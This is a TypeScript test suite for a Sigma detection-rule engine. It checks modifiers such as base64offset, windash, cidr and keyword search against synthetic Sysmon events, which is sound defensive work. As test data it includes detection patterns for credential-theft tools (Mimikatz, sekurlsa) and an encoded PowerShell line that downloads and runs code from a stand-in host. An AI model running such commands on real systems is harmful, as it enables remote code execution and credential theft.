import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { buildLogEvent, sysmonProcess, SYSMON } from '../../../test/builders/winevent.js';
import { loadRuleTexts, processRule } from '../../../test/support/sigma.js';
import type { SigmaLoadOptions } from './loader.js';
import { MANY_CONTAINS } from './modifiers.js';
import { ruleMatches } from './rule-tests.js';

const indent = (yaml: string) =>
  yaml
    .trim()
    .split('\n')
    .map((l) => `    ${l}`)
    .join('\n');

function load(selection: string, options: Partial<SigmaLoadOptions> = {}) {
  return loadRuleTexts(
    [processRule(`  selection:\n${indent(selection)}\n  condition: selection`)],
    options,
  );
}

/** Whether a process_creation rule with this selection fires on a Sysmon 1 event with these fields. */
function fires(
  selection: string,
  fields: Record<string, string>,
  options: Partial<SigmaLoadOptions> = {},
): boolean {
  const set = load(selection, options);
  assert.deepEqual(
    set.errors.map((e) => e.render()),
    [],
  );
  return ruleMatches(set.rules[0]!, sysmonProcess(fields).data);
}

function refusal(selection: string, options: Partial<SigmaLoadOptions> = {}) {
  const set = load(selection, options);
  assert.equal(set.rules.length, 0, 'the rule should be refused');
  return set.errors[0]!;
}

describe('sigma modifiers: position and lists', () => {
  test('a list of values is OR; all makes it AND', () => {
    assert.ok(
      fires("CommandLine|contains: ['-nop', '-enc']", { CommandLine: 'powershell -enc AAAA' }),
    );
    assert.ok(
      !fires("CommandLine|contains|all: ['-nop', '-enc']", { CommandLine: 'powershell -enc AAAA' }),
    );
    assert.ok(
      fires("CommandLine|contains|all: ['-nop', '-enc']", {
        CommandLine: 'powershell -NOP -ENC AAAA',
      }),
    );
  });

  test('long contains lists (MANY_CONTAINS and over) answer as includes does, on each side of it', () => {
    for (const count of [MANY_CONTAINS - 1, MANY_CONTAINS]) {
      // emoji (surrogate pairs) and ASCII values sharing first units, as SigmaHQ's emoji rules
      const values = Array.from({ length: count }, (_, i) =>
        i % 2 ? `'\u{1F600}x${i}'` : `'word${i}'`,
      );
      const selection = `CommandLine|contains: [${values.join(', ')}]`;
      const cases: [string, boolean][] = [
        [`run \u{1F600}x${count - 1 - ((count - 1) % 2 ? 0 : 1)} now`, true],
        [`run WORD${count - 1 - ((count - 1) % 2)}`, true],
        ['run \u{1F600}x', false],
        ['run word', false],
        ['', false],
      ];
      for (const [cmd, expected] of cases)
        assert.equal(fires(selection, { CommandLine: cmd }), expected, `${count} values: ${cmd}`);
    }
  });

  test('contains / startswith / endswith / plain equality, case-insensitive', () => {
    assert.ok(
      fires("Image|endswith: '\\powershell.exe'", {
        Image: 'C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\POWERSHELL.EXE',
      }),
    );
    assert.ok(fires("Image|startswith: 'c:\\windows\\'", { Image: 'C:\\Windows\\x.exe' }));
    assert.ok(!fires("Image|startswith: 'c:\\windows\\'", { Image: 'D:\\c:\\windows\\x.exe' }));
    assert.ok(
      fires("Image: 'C:\\Windows\\System32\\cmd.exe'", { Image: 'c:\\windows\\system32\\CMD.exe' }),
    );
    assert.ok(
      !fires("Image: 'C:\\Windows\\System32\\cmd.exe'", {
        Image: 'C:\\Windows\\System32\\cmd.exe2',
      }),
    );
  });

  test('cased compares case-sensitively', () => {
    assert.ok(fires("CommandLine|contains|cased: ' -F '", { CommandLine: 'tool -F x' }));
    assert.ok(!fires("CommandLine|contains|cased: ' -F '", { CommandLine: 'tool -f x' }));
  });

  test('a list of maps is an OR of ANDs', () => {
    const sel =
      "- Image|endswith: '\\a.exe'\n  CommandLine|contains: 'x'\n- OriginalFileName: 'b.exe'";
    assert.ok(fires(sel, { Image: 'C:\\a.exe', CommandLine: 'x' }));
    assert.ok(!fires(sel, { Image: 'C:\\a.exe', CommandLine: 'y' }));
    assert.ok(fires(sel, { OriginalFileName: 'B.EXE' }));
  });

  test('null matches an absent field; empty matches an empty value', () => {
    assert.ok(fires('Description: null', {}));
    assert.ok(!fires('Description: null', { Description: 'x' }));
    assert.ok(fires("CommandLine: ''", { CommandLine: '' }));
    assert.ok(!fires("CommandLine: ''", { CommandLine: 'x' }));
  });

  test('neq: the field differs from every value', () => {
    assert.ok(fires("IntegrityLevel|neq: 'System'", { IntegrityLevel: 'Medium' }));
    assert.ok(!fires("IntegrityLevel|neq: 'System'", { IntegrityLevel: 'system' }));
  });
});

describe('sigma modifiers: re', () => {
  test('case-sensitive by default; i, m, s sub-modifiers; leading (?i) becomes a JS flag', () => {
    assert.ok(!fires("CommandLine|re: 'net\\s+user'", { CommandLine: 'NET USER' }));
    assert.ok(fires("CommandLine|re|i: 'net\\s+user'", { CommandLine: 'NET USER' }));
    assert.ok(fires("CommandLine|re: '(?i)net\\s+user'", { CommandLine: 'NET  USER' }));
    assert.ok(fires("CommandLine|re|m: '^b$'", { CommandLine: 'a\nb\nc' }));
    assert.ok(!fires("CommandLine|re: '^b$'", { CommandLine: 'a\nb\nc' }));
    assert.ok(fires("CommandLine|re|s: 'a.c'", { CommandLine: 'a\nc' }));
    assert.ok(!fires("CommandLine|re: 'a.c'", { CommandLine: 'a\nc' }));
  });

  test('PCRE-only syntax is refused with E_SIGMA_UNSUPPORTED_REGEX', () => {
    assert.equal(refusal("CommandLine|re: 'a++b'").code, 'E_SIGMA_UNSUPPORTED_REGEX');
    assert.equal(refusal("CommandLine|re: '(?>ab)c'").code, 'E_SIGMA_UNSUPPORTED_REGEX');
    assert.equal(refusal("CommandLine|re: 'a(?i)b'").code, 'E_SIGMA_UNSUPPORTED_REGEX');
    assert.equal(refusal("CommandLine|re: '\\Aabc'").code, 'E_SIGMA_UNSUPPORTED_REGEX');
  });

  test('a pattern that does not compile → E_SIGMA_REGEX; nested unbounded quantifiers → E_SIGMA_UNSAFE_REGEX', () => {
    assert.equal(refusal("CommandLine|re: 'a(b'").code, 'E_SIGMA_REGEX');
    assert.equal(refusal("CommandLine|re: '(a+)+$'").code, 'E_SIGMA_UNSAFE_REGEX');
    assert.equal(refusal("CommandLine|re: '(?:.*\\)){1,}x'").code, 'E_SIGMA_UNSAFE_REGEX');
    assert.ok(fires("CommandLine|re: '(?:[a-z0-9]+\\.){2}com'", { CommandLine: 'ping a.b.com' }));
  });

  test('a regex sees at most maxRegexInputChars of a value', () => {
    const value = `${'x'.repeat(100)}MARK`;
    assert.ok(
      fires(
        "CommandLine|re: 'MARK$'",
        { CommandLine: value },
        { limits: { maxRegexInputChars: 104 } },
      ),
    );
    assert.ok(
      !fires(
        "CommandLine|re: 'MARK$'",
        { CommandLine: value },
        { limits: { maxRegexInputChars: 103 } },
      ),
    );
  });

  test('re takes no transformation before it and only i/m/s after it', () => {
    assert.equal(refusal("CommandLine|base64|re: 'x'").code, 'E_SIGMA_MODIFIER_ORDER');
    assert.equal(refusal("CommandLine|re|contains: 'x'").code, 'E_SIGMA_MODIFIER_ORDER');
    assert.equal(refusal("CommandLine|contains|i: 'x'").code, 'E_SIGMA_MODIFIER_ORDER');
  });
});

describe('sigma modifiers: encodings and windash', () => {
  const b64 = (s: string, enc: BufferEncoding = 'utf8') => Buffer.from(s, enc).toString('base64');

  test('base64|contains finds the encoded value', () => {
    assert.ok(
      fires("CommandLine|base64|contains: 'http://'", {
        CommandLine: `powershell -e ${b64('http://')}`,
      }),
    );
  });

  test('base64offset|contains finds the value at any byte offset inside longer base64', () => {
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const encoded = b64(`${prefix}Invoke-Mimikatz -x`);
      assert.ok(
        fires("CommandLine|base64offset|contains: 'Invoke-Mimikatz'", {
          CommandLine: `-enc ${encoded}`,
        }),
        `offset ${prefix.length}`,
      );
    }
    assert.ok(
      !fires("CommandLine|base64offset|contains: 'Invoke-Mimikatz'", {
        CommandLine: `-enc ${b64('Invoke-Other')}`,
      }),
    );
  });

  test('wide|base64offset|contains: UTF-16LE text inside -EncodedCommand', () => {
    const encoded = b64(
      'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.7/a")',
      'utf16le',
    );
    assert.ok(
      fires("CommandLine|wide|base64offset|contains: 'Net.WebClient'", {
        CommandLine: `powershell -enc ${encoded}`,
      }),
    );
    assert.ok(
      fires("CommandLine|utf16le|base64offset|contains: 'Net.WebClient'", {
        CommandLine: `powershell -enc ${encoded}`,
      }),
    );
    assert.ok(
      !fires("CommandLine|wide|base64offset|contains: 'Net.WebClient'", {
        CommandLine: `powershell -enc ${b64('Net.WebClient')}`,
      }),
      'UTF-8 is not UTF-16',
    );
  });

  test('utf16 adds a byte order mark; utf16be is big-endian', () => {
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('cmd', 'utf16le')]).toString(
      'base64',
    );
    assert.ok(fires("CommandLine|utf16|base64|contains: 'cmd'", { CommandLine: `x ${bom} y` }));
    const be = Buffer.from('\u0000c\u0000m\u0000d', 'latin1').toString('base64');
    assert.ok(fires("CommandLine|utf16be|base64|contains: 'cmd'", { CommandLine: be }));
  });

  test('windash accepts -, /, en dash, em dash and horizontal bar before a flag, in either order with contains', () => {
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      assert.ok(
        fires("CommandLine|windash|contains: ' -enc '", {
          CommandLine: `powershell ${dash}enc AAAA`,
        }),
        dash,
      );
      assert.ok(
        fires("CommandLine|contains|windash: ' -enc '", {
          CommandLine: `powershell ${dash}enc AAAA`,
        }),
        dash,
      );
    }
    assert.ok(
      !fires("CommandLine|contains|windash: ' -enc '", { CommandLine: 'powershell +enc AAAA' }),
    );
    assert.ok(
      !fires("CommandLine|windash: 'a-b'", { CommandLine: 'a/b' }),
      'a dash inside a word is not a flag',
    );
  });

  test('an encoding cannot encode wildcards: contains|base64 → E_SIGMA_MODIFIER_ORDER', () => {
    const e = refusal("CommandLine|contains|base64: 'http'");
    assert.equal(e.code, 'E_SIGMA_MODIFIER_ORDER');
    assert.match(e.message, /put contains\/startswith\/endswith after 'base64'/);
  });

  test('windash permutations over maxValuesPerRule → E_SIGMA_TOO_LARGE; under it the rule loads', () => {
    const flags = ' -a -b -c -d'; // 5^4 = 625 values
    assert.equal(
      load(`CommandLine|windash: '${flags}'`, { limits: { maxValuesPerRule: 625 } }).errors.length,
      0,
    );
    assert.equal(
      refusal(`CommandLine|windash: '${flags}'`, { limits: { maxValuesPerRule: 624 } }).code,
      'E_SIGMA_TOO_LARGE',
    );
  });
});

describe('sigma modifiers: types', () => {
  const network = (ip: string) =>
    buildLogEvent({ channel: SYSMON, eventId: 3, data: { Image: 'C:\\x.exe', DestinationIp: ip } })
      .data;
  const netRule = (value: string) =>
    loadRuleTexts([
      `title: t\nlogsource: {product: windows, category: network_connection}\ndetection:\n  selection:\n    DestinationIp|cidr: ${value}\n  condition: selection`,
    ]);

  test('cidr: IPv4 and IPv6 networks, IPv4-mapped IPv6 addresses', () => {
    const set = netRule("['192.0.2.0/24', '2001:db8::/32']");
    const rule = set.rules[0]!;
    assert.ok(ruleMatches(rule, network('192.0.2.77')));
    assert.ok(!ruleMatches(rule, network('198.51.100.1')));
    assert.ok(ruleMatches(rule, network('2001:db8:0:1::5')));
    assert.ok(!ruleMatches(rule, network('2001:db9::5')));
    assert.ok(ruleMatches(rule, network('::ffff:192.0.2.1')));
    assert.ok(!ruleMatches(rule, network('not an ip')));
  });

  test('cidr: a value that is no network → E_SIGMA_MODIFIER_VALUE', () => {
    assert.equal(netRule("'192.0.2.0/33'").errors[0]?.code, 'E_SIGMA_MODIFIER_VALUE');
  });

  test('exists: true when present (even empty), false when absent', () => {
    assert.ok(fires('Description|exists: true', { Description: '' }));
    assert.ok(!fires('Description|exists: true', {}));
    assert.ok(fires('Description|exists: false', {}));
    assert.equal(refusal("Description|exists: 'maybe'").code, 'E_SIGMA_MODIFIER_VALUE');
  });

  test('fieldref compares two fields of the event; with endswith too', () => {
    assert.ok(
      fires('ParentImage|fieldref: Image', { Image: 'C:\\a.exe', ParentImage: 'c:\\A.EXE' }),
    );
    assert.ok(
      !fires('ParentImage|fieldref: Image', { Image: 'C:\\a.exe', ParentImage: 'C:\\b.exe' }),
    );
    assert.ok(
      fires('Image|fieldref|endswith: OriginalFileName', {
        Image: 'C:\\x\\cmd.exe',
        OriginalFileName: 'CMD.EXE',
      }),
    );
  });

  test('lt, lte, gt, gte on numbers, hex values included', () => {
    assert.ok(fires('ProcessId|gt: 4000', { ProcessId: '4242' }));
    assert.ok(!fires('ProcessId|lt: 4000', { ProcessId: '4242' }));
    assert.ok(fires('ProcessId|lte: 4242', { ProcessId: '4242' }));
    assert.ok(fires('ProcessId|gte: 0x1000', { ProcessId: '0x1092' }));
    assert.ok(!fires('ProcessId|gte: 1', { ProcessId: 'n/a' }));
    assert.equal(refusal("ProcessId|gt: 'many'").code, 'E_SIGMA_MODIFIER_VALUE');
  });

  test('time parts: hour, minute, day, month, year, week of UTC times', () => {
    assert.ok(fires('UtcTime|hour: 10', { UtcTime: '2024-05-01 10:11:12.000' }));
    assert.ok(fires('UtcTime|minute|gte: 11', { UtcTime: '2024-05-01 10:11:12.000' }));
    assert.ok(fires('UtcTime|month: 5', { UtcTime: '2024-05-01 10:11:12.000' }));
    assert.ok(fires('UtcTime|year: 2024', { UtcTime: '2024-05-01T10:11:12Z' }));
    assert.ok(fires('UtcTime|week: 18', { UtcTime: '2024-05-01 10:11:12.000' }));
    assert.ok(!fires('UtcTime|day: 2', { UtcTime: '2024-05-01 10:11:12.000' }));
  });

  test('expand resolves placeholders from the configuration, or refuses the rule', () => {
    const sel = "User|expand: '%Admins%'";
    assert.ok(
      fires(
        sel,
        { User: 'EXAMPLE\\bob' },
        { placeholders: { Admins: ['EXAMPLE\\alice', 'EXAMPLE\\bob'] } },
      ),
    );
    assert.ok(
      !fires(sel, { User: 'EXAMPLE\\eve' }, { placeholders: { Admins: ['EXAMPLE\\alice'] } }),
    );
    assert.ok(
      fires(
        "User|contains|expand: '%Admins%'",
        { User: 'EXAMPLE\\alice2' },
        { placeholders: { Admins: ['alice'] } },
      ),
    );
    const e = refusal(sel);
    assert.equal(e.code, 'E_SIGMA_UNRESOLVED_PLACEHOLDER');
    assert.match(e.message, /%Admins%/);
    assert.ok(
      fires("User: '%Admins%'", { User: '%admins%' }),
      'without expand a placeholder is literal text',
    );
  });

  test('an unknown modifier is refused loudly with the allowlist', () => {
    const e = refusal("CommandLine|contains|sometimes: 'x'");
    assert.equal(e.code, 'E_SIGMA_UNSUPPORTED_MODIFIER');
    assert.match(e.message, /'sometimes' is not supported \(supported: .*windash/);
  });

  test('match types do not combine: contains|startswith, cidr|contains → E_SIGMA_MODIFIER_ORDER', () => {
    assert.equal(refusal("CommandLine|contains|startswith: 'x'").code, 'E_SIGMA_MODIFIER_ORDER');
    assert.equal(
      refusal("CommandLine|cidr|contains: '192.0.2.0/24'").code,
      'E_SIGMA_MODIFIER_ORDER',
    );
    assert.equal(refusal('CommandLine|contains: null').code, 'E_SIGMA_MODIFIER_VALUE');
  });
});

describe('sigma keywords (unfielded search)', () => {
  const keywordRule = (body: string) =>
    loadRuleTexts([
      `title: k\nlogsource: {product: windows, service: system}\ndetection:\n${body}\n  condition: keywords`,
    ]).rules[0]!;
  const systemEvent = (data: Record<string, unknown>) =>
    buildLogEvent({ channel: 'System', eventId: 7045, data }).data;

  test('a list of strings matches any EventData value, anywhere in it', () => {
    const rule = keywordRule("  keywords:\n    - 'sekurlsa::'\n    - 'mimidrv.sys'");
    assert.ok(ruleMatches(rule, systemEvent({ ImagePath: 'C:\\x\\MIMIDRV.SYS' })));
    assert.ok(!ruleMatches(rule, systemEvent({ ImagePath: 'C:\\x\\other.sys' })));
  });

  test("'|all' keywords must all occur", () => {
    const rule = keywordRule(
      "  keywords:\n    '|all':\n      - 'OabVirtualDirectory'\n      - ' -ExternalUrl '",
    );
    assert.ok(
      ruleMatches(rule, systemEvent({ A: 'Set-OabVirtualDirectory', B: 'x -ExternalUrl y' })),
    );
    assert.ok(!ruleMatches(rule, systemEvent({ A: 'Set-OabVirtualDirectory' })));
  });

  test('keywords do not search System (Provider, Channel)', () => {
    const rule = keywordRule("  keywords:\n    - 'Microsoft-Windows-Sysmon'");
    assert.ok(!ruleMatches(rule, systemEvent({ A: 'x' })));
  });
});
